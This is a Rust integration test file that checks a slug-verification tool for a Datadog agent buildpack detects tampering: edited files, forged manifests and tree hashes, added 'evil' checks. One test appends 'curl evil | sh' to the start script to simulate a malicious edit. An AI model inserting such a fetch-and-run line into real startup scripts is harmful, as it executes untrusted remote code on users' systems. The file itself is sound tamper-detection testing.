//! `verify` cannot be fooled: slugs built by the real bin/compile from the served repository,
//! tampered with the way issue 13 found (a file and its entry in tree.json together, files
//! added below `.apt/etc/datadog-agent/checks.d` and `.apt/var`, the start script, the shipped
//! binary, the manifest's tree hash, tree.json), must differ (exit 1) and name what changed;
//! what cannot be checked exits 2; a slug after a real dyno start still verifies (exit 0).

mod common;

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use common::{Served, bin_compile, text};
use ddslug::hash::Sha256;
use ddslug::store::treehash::{TreeEntry, hash_entries};
use serde_json::Value;

fn ddslug(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ddslug")).args(args).env_remove("DD_HEROKU_CONF_FOLDER").output().unwrap()
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn code(out: &Output) -> i32 {
    out.status.code().unwrap_or(-1)
}

/// Runs `verify` (with `extra` arguments) and checks its exit code and that its output
/// names each of `mentions`.
fn verify_says(build: &Path, extra: &[&str], expected: i32, mentions: &[&str]) -> String {
    let mut args = vec!["verify"];
    args.extend(extra);
    args.push(s(build));
    let out = ddslug(&args);
    let t = text(&out);
    assert_eq!(code(&out), expected, "verify {extra:?}: {t}");
    for m in mentions {
        assert!(t.contains(m), "verify {extra:?} does not say {m:?}: {t}");
    }
    t
}

/// Replaces a file with new content and the same mode, never writing in place: slug files
/// are hard links into the layer cache (and `.ddslug/bin/ddslug` to the test's binary).
fn replace(path: &Path, content: &[u8]) {
    let mode = fs::symlink_metadata(path).map(|m| m.permissions().mode()).unwrap_or(0o644);
    let _ = fs::remove_file(path);
    fs::write(path, content).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap()
}

fn write_json(path: &Path, value: &Value) {
    replace(path, &serde_json::to_vec(value).unwrap());
}

/// Edits the entry of `path` in the slug's tree.json.
fn edit_entry(build: &Path, path: &str, edit: impl FnOnce(&mut Value)) {
    let list = build.join(".ddslug/tree.json");
    let mut entries = read_json(&list);
    let entry = entries.as_array_mut().unwrap().iter_mut().find(|e| e["path"] == path).unwrap();
    edit(entry);
    write_json(&list, &entries);
}

/// The tree hash of the slug's tree.json as it now reads.
fn listed_hash(build: &Path) -> String {
    let entries: Vec<TreeEntry> = serde_json::from_slice(&fs::read(build.join(".ddslug/tree.json")).unwrap()).unwrap();
    hash_entries(&entries).to_string()
}

fn edit_manifest(build: &Path, edit: impl FnOnce(&mut Value)) {
    let path = build.join(".ddslug/manifest.json");
    let mut manifest = read_json(&path);
    edit(&mut manifest);
    write_json(&path, &manifest);
}

/// A file's content replaced, and its entry in tree.json made to match.
fn tamper_file_and_entry(build: &Path, rel: &str) {
    let content = b"tampered";
    replace(&build.join(".apt").join(rel), content);
    edit_entry(build, rel, |e| {
        e["sha256"] = Sha256::of(content).hex().into();
        e["size"] = content.len().into();
    });
}

struct Slugs {
    served: Served,
    cache: PathBuf,
    env: PathBuf,
    n: std::cell::Cell<usize>,
}

impl Slugs {
    fn new(settings: &[(&str, &str)]) -> Slugs {
        let served = Served::start();
        let cache = served.dir.path().join("cache");
        let env = served.env_dir("v", settings);
        Slugs { served, cache, env, n: 0.into() }
    }

    /// A fresh slug from bin/compile (the layer is built once and reused).
    fn build(&self) -> PathBuf {
        self.n.set(self.n.get() + 1);
        let build = self.served.build_dir(&format!("s{}", self.n.get()));
        let out = bin_compile(&build, &self.cache, &self.env);
        assert!(out.status.success(), "{}", text(&out));
        build
    }
}

#[test]
fn each_tampering_differs_and_names_what_changed() {
    let slugs = Slugs::new(&[]);
    let cache = s(&slugs.cache).to_owned();
    let rebuild = ["--rebuild", "--cache", &cache];
    let untouched = slugs.build();
    verify_says(&untouched, &[], 0, &["identical to its manifest (0 added, 0 missing, 0 changed)"]);
    verify_says(&untouched, &rebuild, 0, &["a cache purge would change nothing"]);

    // A file and its entry in tree.json together.
    let b = slugs.build();
    tamper_file_and_entry(&b, "opt/datadog-agent/bin/agent/agent");
    verify_says(&b, &[], 1, &["DIFFERS", "! .ddslug/tree.json changed", "! the tree hash of .apt is"]);
    verify_says(&b, &rebuild, 1, &["changed  opt/datadog-agent/bin/agent/agent"]);

    // A check added where the agent loads checks from, anything below var/.
    let b = slugs.build();
    let checks = b.join(".apt/etc/datadog-agent/checks.d");
    fs::create_dir_all(&checks).unwrap();
    fs::write(checks.join("evil.py"), "import os\n").unwrap();
    fs::create_dir_all(b.join(".apt/var/log/datadog")).unwrap();
    fs::write(b.join(".apt/var/log/datadog/evil"), "x").unwrap();
    let added = [
        "added    etc/datadog-agent/checks.d",
        "added    etc/datadog-agent/checks.d/evil.py",
        "added    var",
        "added    var/log/datadog/evil",
    ];
    verify_says(&b, &[], 1, &added);
    verify_says(&b, &rebuild, 1, &["extra    etc/datadog-agent/checks.d/evil.py", "extra    var/log/datadog/evil"]);
    let out = ddslug(&["verify", "--json", s(&b)]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((v["ok"].clone(), v["outcome"].clone()), (false.into(), "differs".into()));
    let paths: Vec<&str> = v["verify"]["diff"]["added"].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["etc/datadog-agent/checks.d", "etc/datadog-agent/checks.d/evil.py", "var", "var/log", "var/log/datadog", "var/log/datadog/evil"]);

    // The start script and the shipped binary.
    let b = slugs.build();
    let script = b.join(".profile.d/datadog.sh");
    let mut edited = fs::read(&script).unwrap();
    edited.extend_from_slice(b"curl evil | sh\n");
    replace(&script, &edited);
    verify_says(&b, &[], 1, &["! .profile.d/datadog.sh (the start script) changed"]);
    verify_says(&b, &rebuild, 1, &["a cache purge would change nothing"]);
    let b = slugs.build();
    let binary = b.join(".ddslug/bin/ddslug");
    let mut edited = fs::read(&binary).unwrap();
    edited.push(0);
    replace(&binary, &edited);
    verify_says(&b, &[], 1, &["! .ddslug/bin/ddslug (the ddslug binary) changed"]);
    let b = slugs.build();
    fs::write(b.join(".ddslug/extra"), "x").unwrap();
    verify_says(&b, &[], 1, &["! .ddslug/extra is not something a compile makes"]);

    // The manifest's tree hash alone, tree.json alone, both together.
    let b = slugs.build();
    let forged = Sha256::of(b"another tree").hex();
    edit_manifest(&b, |m| m["tree_hash"] = forged.clone().into());
    verify_says(&b, &[], 1, &[&format!("; the manifest records {forged}"), ".ddslug/tree.json lists a tree whose hash is"]);
    verify_says(&b, &rebuild, 1, &["! the manifest records tree hash"]);
    let b = slugs.build();
    edit_entry(&b, "opt/datadog-agent/version-manifest.txt", |e| e["mode"] = 0o600.into());
    verify_says(&b, &[], 1, &["! .ddslug/tree.json changed", "changed  opt/datadog-agent/version-manifest.txt"]);
    let b = slugs.build();
    tamper_file_and_entry(&b, "opt/datadog-agent/version-manifest.txt");
    let listed = listed_hash(&b);
    edit_manifest(&b, |m| m["tree_hash"] = listed.into());
    verify_says(&b, &[], 1, &["! .ddslug/tree.json changed"]);
    verify_says(&b, &rebuild, 1, &["changed  opt/datadog-agent/version-manifest.txt", "! the manifest records tree hash"]);
    // A manifest forged whole (the tree.json digest too) is beyond what the slug can prove
    // about itself; the rebuild from the locked blobs still finds the change.
    let digest = Sha256::of(&fs::read(b.join(".ddslug/tree.json")).unwrap()).hex();
    edit_manifest(&b, |m| m["tree_json_sha256"] = digest.into());
    verify_says(&b, &[], 0, &["identical to its manifest"]);
    verify_says(&b, &rebuild, 1, &["changed  opt/datadog-agent/version-manifest.txt", "! the manifest records tree hash"]);
}

#[test]
fn what_cannot_be_checked_exits_2() {
    let slugs = Slugs::new(&[]);
    let b = slugs.build();
    let manifest = b.join(".ddslug/manifest.json");
    let saved = fs::read(&manifest).unwrap();
    // A manifest from before the three digests were recorded: everything else is checked.
    edit_manifest(&b, |m| {
        let m = m.as_object_mut().unwrap();
        for field in ["tree_json_sha256", "start_script_sha256", "binary_sha256"] {
            assert!(m.remove(field).is_some(), "{field} is recorded");
        }
    });
    verify_says(
        &b,
        &[],
        2,
        &[
            "not fully checked",
            "? could not check .ddslug/tree.json against the manifest",
            "? could not check .profile.d/datadog.sh (the start script)",
            "? could not check .ddslug/bin/ddslug (the ddslug binary)",
        ],
    );
    // ...and what differs still differs.
    fs::write(b.join(".apt/opt/datadog-agent/new"), "x").unwrap();
    verify_says(&b, &[], 1, &["added    opt/datadog-agent/new"]);
    fs::remove_file(b.join(".apt/opt/datadog-agent/new")).unwrap();
    replace(&manifest, b"{ not json");
    verify_says(&b, &[], 2, &["is not a ddslug manifest"]);
    fs::remove_file(&manifest).unwrap();
    verify_says(&b, &[], 2, &["manifest.json", "could not check"]);
    replace(&manifest, &saved);
    verify_says(&b, &[], 0, &[]);

    // diff: 0 the same, 1 different, 2 unreadable.
    let other_env = slugs.served.env_dir("other", &[("DD_APM_ENABLED", "false")]);
    let other = slugs.served.build_dir("other");
    assert!(bin_compile(&other, &slugs.cache, &other_env).status.success());
    let same = slugs.build();
    assert_eq!(code(&ddslug(&["diff", s(&b), s(&same)])), 0);
    let out = ddslug(&["diff", s(&b), s(&other)]);
    assert_eq!(code(&out), 1, "{}", text(&out));
    let out = ddslug(&["diff", s(&b), s(&slugs.served.dir.path().join("nowhere"))]);
    assert_eq!(code(&out), 2, "{}", text(&out));
    // A side whose tree.json is not the one its manifest records is not listed path by path.
    edit_entry(&same, "opt/datadog-agent/version-manifest.txt", |e| e["mode"] = 0o600.into());
    let out = ddslug(&["diff", s(&b), s(&same)]);
    assert!(text(&out).contains("B's tree.json is not the one its manifest records"), "{}", text(&out));
}

/// A fake agent: records that it ran, in RECORD_DIR (outside the slug's checked trees).
const FAKE_AGENT: &str = "#!/bin/sh\necho \"$0 $*\" > \"$RECORD_DIR/$(basename \"$0\").$$\"\n";

/// Sources the slug's real `.profile.d/datadog.sh` with fake agents in place of the real
/// ones (put back afterwards, so the slug is as built plus what dyno start wrote), and
/// waits until `launches` of them ran.
fn dyno_start(build: &Path, vars: &[(&str, &str)], launches: usize) {
    let dd = build.join(".apt/opt/datadog-agent");
    let aside = build.join("aside");
    fs::create_dir_all(&aside).unwrap();
    let programs = ["bin/agent/agent", "embedded/bin/trace-agent", "embedded/bin/process-agent"];
    let mut swapped = Vec::new();
    for (i, program) in programs.iter().enumerate() {
        let path = dd.join(program);
        if path.exists() {
            fs::rename(&path, aside.join(i.to_string())).unwrap();
            fs::write(&path, FAKE_AGENT).unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
            swapped.push((path, aside.join(i.to_string())));
        }
    }
    let record = build.join("record");
    fs::create_dir_all(&record).unwrap();
    let mut cmd = Command::new("bash");
    cmd.arg("-c").arg("source .profile.d/datadog.sh").current_dir(build).env_clear();
    cmd.env("HOME", build).env("PATH", std::env::var("PATH").unwrap()).env("RECORD_DIR", &record);
    cmd.env("DYNO", "web.1").env("DDSLUG_HOSTNAME_OVERRIDE", "host");
    cmd.envs(vars.iter().copied());
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let deadline = Instant::now() + Duration::from_secs(10);
    while fs::read_dir(&record).unwrap().count() < launches && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(fs::read_dir(&record).unwrap().count(), launches, "agents started: {}", text(&out));
    for (path, original) in swapped {
        fs::remove_file(&path).unwrap();
        fs::rename(original, &path).unwrap();
    }
}

#[test]
fn a_slug_after_dyno_start_verifies_and_tampering_after_it_still_shows() {
    // 7.67 with the process agent: dyno start also links the process agent to the agent.
    let slugs = Slugs::new(&[("DD_AGENT_VERSION", "7.67.0-1"), ("DD_PROCESS_AGENT", "true")]);
    let app_files: [(&str, &str); 5] = [
        ("conf.d/nginx.d/conf.yaml", "instances: [{}]\n"),
        ("conf.d/legacy.yaml", "instances: [{legacy: true}]\n"),
        ("conf.d/mine.d/conf.yaml.default", "instances: [{}]\n"),
        ("checks.d/mycheck.py", "# check\n"),
        ("checks.d/mycheck.yaml", "instances: [{}]\n"),
    ];
    let vars = [
        ("DD_API_KEY", "k"),
        ("DD_PROCESS_AGENT", "true"),
        ("DD_ENABLE_HEROKU_POSTGRES", "true"),
        ("DATABASE_URL", "postgres://alice:pw@db.example:5432/main"),
        ("DD_ENABLE_HEROKU_REDIS", "true"),
        ("REDIS_URL", "redis://default:pw@cache.example:6379/1"),
        ("DD_DISABLE_HOST_METRICS", "true"),
    ];
    let started = || {
        let b = slugs.build();
        for (rel, content) in app_files {
            let path = b.join("datadog").join(rel);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, content).unwrap();
        }
        dyno_start(&b, &vars, 3);
        b
    };
    let b = started();
    let conf = b.join(".apt/etc/datadog-agent");
    for written in [
        "datadog.yaml",
        "install_info",
        "conf.d/postgres.d/conf.yaml",
        "conf.d/redisdb.d/conf.yaml",
        "conf.d/nginx.d/conf.yaml",
        "conf.d/legacy.d/conf.yaml",
        "conf.d/mine.d/conf.yaml.default_disabled",
        "conf.d/cpu.d/conf.yaml.default_disabled",
        "checks.d/mycheck.py",
        "conf.d/mycheck.yaml",
    ] {
        assert!(conf.join(written).is_file(), "dyno start wrote {written}");
    }
    let dd = b.join(".apt/opt/datadog-agent");
    for link in ["bin/agent/process-agent", "embedded/bin/pip", "embedded/bin/python", "embedded/ssl/cert.pem"] {
        assert!(fs::symlink_metadata(dd.join(link)).unwrap().is_symlink(), "dyno start linked {link}");
    }
    let t = verify_says(&b, &[], 0, &["identical to its manifest (0 added, 0 missing, 0 changed)", "paths written at dyno start, not counted"]);
    let out = ddslug(&["verify", "--json", s(&b)]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let written: Vec<&str> = v["verify"]["written_at_dyno_start"].as_array().unwrap().iter().map(|p| p.as_str().unwrap()).collect();
    for path in ["etc/datadog-agent/checks.d/mycheck.py", "opt/datadog-agent/bin/agent/process-agent", "var/log/datadog"] {
        assert!(written.contains(&path), "{path} is not among {written:?}; {t}");
    }
    verify_says(&b, &["--rebuild", "--cache", s(&slugs.cache)], 0, &["a cache purge would change nothing"]);

    // After dyno start, the same additions and edits still count.
    fs::write(conf.join("checks.d/evil.py"), "import os\n").unwrap();
    fs::write(b.join(".apt/var/log/datadog/evil"), "x").unwrap();
    verify_says(&b, &[], 1, &["added    etc/datadog-agent/checks.d/evil.py", "added    var/log/datadog/evil"]);
    let b = started();
    let conf = b.join(".apt/etc/datadog-agent");
    replace(&conf.join("checks.d/mycheck.py"), b"import evil\n");
    replace(&conf.join("conf.d/cpu.d/conf.yaml.default_disabled"), b"instances: [{evil: 1}]\n");
    replace(&conf.join("install_info"), b"install_method: {}\n");
    verify_says(
        &b,
        &[],
        1,
        &[
            "added    etc/datadog-agent/checks.d/mycheck.py",
            "changed  etc/datadog-agent/conf.d/cpu.d/conf.yaml.default",
            "added    etc/datadog-agent/install_info",
        ],
    );
    let b = started();
    let pip = b.join(".apt/opt/datadog-agent/embedded/bin/pip");
    fs::remove_file(&pip).unwrap();
    std::os::unix::fs::symlink("/tmp/elsewhere/.apt/opt/datadog-agent/embedded/bin/pip3", &pip).unwrap();
    fs::remove_file(b.join(".apt/etc/datadog-agent/datadog.yaml")).unwrap();
    fs::create_dir(b.join(".apt/etc/datadog-agent/datadog.yaml")).unwrap();
    // Without datadog.yaml as a file, nothing is taken for dyno start's.
    let t = verify_says(&b, &[], 1, &["added    opt/datadog-agent/embedded/bin/pip", "added    etc/datadog-agent/datadog.yaml"]);
    assert!(t.contains("added    etc/datadog-agent/conf.d/postgres.d/conf.yaml"), "{t}");
}

/// Overwrites a file in place (same inode) with other bytes of the same length, and puts its
/// mtime back: what `cp -p` over it, or damage on disk, leaves.
fn overwrite_keeping_size_and_mtime(path: &Path) {
    use std::io::{Seek, Write};
    let before = fs::metadata(path).unwrap();
    let mut bytes = fs::read(path).unwrap();
    for b in bytes.iter_mut().take(64) {
        *b = !*b;
    }
    let mut f = fs::OpenOptions::new().write(true).open(path).unwrap();
    f.seek(std::io::SeekFrom::Start(0)).unwrap();
    f.write_all(&bytes).unwrap();
    f.set_modified(before.modified().unwrap()).unwrap();
    drop(f);
    let after = fs::metadata(path).unwrap();
    assert_eq!((after.len(), after.modified().unwrap(), after.ino()), (before.len(), before.modified().unwrap(), before.ino()));
}

#[test]
fn a_layer_file_overwritten_in_place_with_its_size_and_mtime_is_rebuilt_not_shipped() {
    let slugs = Slugs::new(&[]);
    let first = slugs.build();
    let key = read_json(&first.join(".ddslug/manifest.json"))["layer_key"].as_str().unwrap().to_owned();
    let layer = slugs.cache.join("ddslug/v1/layers").join(&key);
    let agent = "opt/datadog-agent/bin/agent/agent";
    assert_eq!(fs::metadata(first.join(".apt").join(agent)).unwrap().ino(), fs::metadata(layer.join(agent)).unwrap().ino());
    // The build recorded the layer's inodes and ctimes: the next build trusts a file without
    // reading it only while its ctime has not moved, which these overwrites make it do.
    assert!(slugs.cache.join(format!("ddslug/v1/layers/{key}.seen")).is_file());
    // Through a slug's hard link into the layer, then directly in the cache.
    for (how, path) in [("through a slug", first.join(".apt").join(agent)), ("in the cache", layer.join("opt/datadog-agent/embedded/lib/libssl.so.3"))] {
        overwrite_keeping_size_and_mtime(&path);
        let b = slugs.served.build_dir(&format!("after {how}"));
        let out = bin_compile(&b, &slugs.cache, &slugs.env);
        let t = text(&out);
        assert!(out.status.success() && t.contains("changed on disk; rebuilding it"), "{how}: {t}");
        let manifest = ddslug::slug::manifest::read_manifest(&b.join(".ddslug/manifest.json")).unwrap();
        assert_eq!(manifest.tree_hash, ddslug::store::treehash::scan_tree(&b.join(".apt")).unwrap().hash, "{how}");
        verify_says(&b, &[], 0, &["identical to its manifest"]);
    }
}

/// Runs `ddslug verify` as a user who is not root (through setpriv when the tests run as
/// root, as CI does), with `DD_HEROKU_CONF_FOLDER` unset.
fn verify_unprivileged(build: &Path) -> Output {
    common::as_unprivileged(env!("CARGO_BIN_EXE_ddslug")).arg("verify").arg(build).env_remove("DD_HEROKU_CONF_FOLDER").output().unwrap()
}

/// As the unprivileged user that built it (Heroku's), a slug whose package has a 0000
/// directory and a 0000 file cannot be fully read: verify exits 2 ("could not check") and
/// names each path it could not read, never 0 (identical) or 1 (differs). So does a slug
/// whose manifest, entry list or start script that user may not read.
#[test]
fn what_an_unprivileged_user_cannot_read_exits_2_naming_it() {
    let served = Served::with_agent(|deb| {
        deb.dir("opt/datadog-agent/locked", 0o000)
            .file("opt/datadog-agent/locked/secret", 0o600, "behind a 0000 directory")
            .file("opt/datadog-agent/unreadable", 0o000, "a file no one may read")
    });
    let env = served.env_dir("modes", &[]);
    let cache = served.dir.path().join("cache");
    let build = served.build_dir("slug");
    let out = common::bin_compile_unprivileged(&build, &cache, &env);
    assert!(out.status.success(), "{}", text(&out));
    let mode = |p: &Path, m: u32| fs::set_permissions(p, fs::Permissions::from_mode(m)).unwrap();
    let locked = build.join(".apt/opt/datadog-agent/locked");
    // The 0000 directory; then, with it passable for a moment, the 0000 file alone.
    for (path, opened) in [("opt/datadog-agent/locked", false), ("opt/datadog-agent/unreadable", true)] {
        if opened {
            mode(&locked, 0o700);
        }
        let out = verify_unprivileged(&build);
        mode(&locked, 0o000);
        let t = text(&out);
        assert_eq!(code(&out), 2, "{path}: {t}");
        assert!(t.contains(path) && t.contains("could not check"), "verify does not name {path}: {t}");
        assert!(!t.contains("DIFFERS") && !t.contains("identical to its manifest"), "{t}");
    }
    // Root reads it all: identical.
    if common::running_as_root() {
        verify_says(&build, &[], 0, &["identical to its manifest"]);
    }
    for (rel, mentions) in [
        (".ddslug/manifest.json", "manifest.json"),
        (".ddslug/tree.json", "tree.json"),
        (".profile.d/datadog.sh", "datadog.sh"),
        (".ddslug/bin/ddslug", "bin/ddslug"),
    ] {
        let path = build.join(rel);
        let before = fs::symlink_metadata(&path).unwrap().permissions().mode() & 0o7777;
        mode(&path, 0o000);
        let out = verify_unprivileged(&build);
        mode(&path, before);
        let t = text(&out);
        assert_eq!(code(&out), 2, "{rel}: {t}");
        assert!(t.contains(mentions) && t.contains("ermission denied"), "{rel}: {t}");
    }
    // What could be read is still checked, and a difference outweighs what could not be.
    let script = build.join(".profile.d/datadog.sh");
    mode(&script, 0o000);
    fs::write(build.join(".ddslug/extra"), "x").unwrap();
    let out = verify_unprivileged(&build);
    let t = text(&out);
    assert_eq!(code(&out), 1, "{t}");
    for says in ["DIFFERS", "! .ddslug/extra is not something a compile makes", "? could not check .profile.d/datadog.sh", "? could not check .apt"] {
        assert!(t.contains(says), "verify does not say {says:?}: {t}");
    }
}

/// What another buildpack put in `.apt` before ddslug (heroku-buildpack-apt runs first and
/// unpacks its packages there): files of its own, a directory ddslug's tree has too (with
/// another mode), a file where ddslug's agent goes (replaced by it). The slug verifies as
/// identical; those entries are then checked exactly, and anything added after the compile
/// is still added.
#[test]
fn what_another_buildpack_put_in_apt_before_the_compile_is_checked_not_flagged() {
    let slugs = Slugs::new(&[]);
    let other_buildpack = |build: &Path| {
        let apt = build.join(".apt");
        fs::create_dir_all(apt.join("usr/lib/x86_64-linux-gnu")).unwrap();
        fs::write(apt.join("usr/lib/x86_64-linux-gnu/libpq.so.5.15"), "libpq").unwrap();
        std::os::unix::fs::symlink("libpq.so.5.15", apt.join("usr/lib/x86_64-linux-gnu/libpq.so.5")).unwrap();
        fs::create_dir_all(apt.join("etc/apt")).unwrap();
        fs::write(apt.join("etc/apt/sources.list"), "deb http://deb.invalid/ stable main\n").unwrap();
        fs::set_permissions(apt.join("etc"), fs::Permissions::from_mode(0o750)).unwrap();
        fs::create_dir_all(apt.join("opt/datadog-agent/bin/agent")).unwrap();
        fs::write(apt.join("opt/datadog-agent/bin/agent/agent"), "an older agent").unwrap();
    };
    let built = || {
        slugs.n.set(slugs.n.get() + 1);
        let build = slugs.served.build_dir(&format!("other{}", slugs.n.get()));
        other_buildpack(&build);
        let out = bin_compile(&build, &slugs.cache, &slugs.env);
        assert!(out.status.success(), "{}", text(&out));
        build
    };
    let b = built();
    assert_ne!(fs::read(b.join(".apt/opt/datadog-agent/bin/agent/agent")).unwrap(), b"an older agent", "ours replaced it");
    assert_eq!(fs::symlink_metadata(b.join(".apt/etc")).unwrap().permissions().mode() & 0o777, 0o750, "the merge keeps their directory");
    verify_says(&b, &[], 0, &["identical to its manifest (0 added, 0 missing, 0 changed)"]);
    verify_says(&b, &["--rebuild", "--cache", s(&slugs.cache)], 0, &["a cache purge would change nothing"]);
    let listed: Vec<Value> = serde_json::from_slice(&fs::read(b.join(".ddslug/foreign.json")).unwrap()).unwrap();
    let paths: Vec<&str> = listed.iter().map(|e| e["path"].as_str().unwrap()).collect();
    assert!(paths.contains(&"usr/lib/x86_64-linux-gnu/libpq.so.5") && paths.contains(&"etc"), "{paths:?}");
    assert!(!paths.contains(&"opt/datadog-agent/bin/agent/agent"), "replaced by ours, so not theirs: {paths:?}");

    // After the compile: one of theirs changed, one removed, their directory's mode, a file added.
    replace(&b.join(".apt/usr/lib/x86_64-linux-gnu/libpq.so.5.15"), b"evil");
    fs::remove_file(b.join(".apt/etc/apt/sources.list")).unwrap();
    fs::write(b.join(".apt/usr/lib/x86_64-linux-gnu/evil.so"), "x").unwrap();
    verify_says(
        &b,
        &[],
        1,
        &[
            "changed  usr/lib/x86_64-linux-gnu/libpq.so.5.15",
            "missing  etc/apt/sources.list",
            "added    usr/lib/x86_64-linux-gnu/evil.so",
            "! 2 of the 12 entries other buildpacks had put in .apt before the compile",
        ],
    );
    let b = built();
    fs::set_permissions(b.join(".apt/etc"), fs::Permissions::from_mode(0o777)).unwrap();
    let t = verify_says(&b, &[], 1, &["changed  etc"]);
    assert_eq!(t.lines().filter(|l| l.trim_start().starts_with("changed  etc ")).count(), 1, "reported once: {t}");
    // The list is under the manifest's protection: adding to it is a difference.
    let b = built();
    fs::write(b.join(".apt/usr/evil"), "x").unwrap();
    let list = b.join(".ddslug/foreign.json");
    let mut entries = read_json(&list);
    let evil = serde_json::json!({ "path": "usr/evil", "mode": 0o644, "type": "file", "sha256": Sha256::of(b"x").hex(), "size": 1 });
    entries.as_array_mut().unwrap().push(evil);
    write_json(&list, &entries);
    verify_says(&b, &[], 1, &["! .ddslug/foreign.json changed", "added    usr/evil"]);
}
